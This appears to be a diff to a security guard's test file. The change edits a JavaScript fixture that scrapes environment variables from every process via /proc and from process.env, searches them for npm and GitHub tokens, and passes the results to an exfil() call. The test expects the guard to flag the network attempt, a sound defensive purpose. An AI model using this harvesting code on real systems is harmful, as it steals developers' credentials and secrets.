@@ -504,6 +504,9 @@ for (const d of tryIt(() => fs.readdirSync('/proc')) || []) {
   if (/^\d+$/.test(d)) loot += tryIt(() => fs.readFileSync('/proc/' + d + '/environ', 'utf8'));
 }
 loot += JSON.stringify(process.env);
+// Had it found a token it would say so in its own failure, which guard prints.
+const found = loot.match(/(npm|ghp)_[A-Za-z0-9]{20,}/g);
+if (found) throw new Error('loot: ' + found.join(' '));
 await exfil(loot);
 `,
 	}, "reached for the network while loading or constructing: connect")
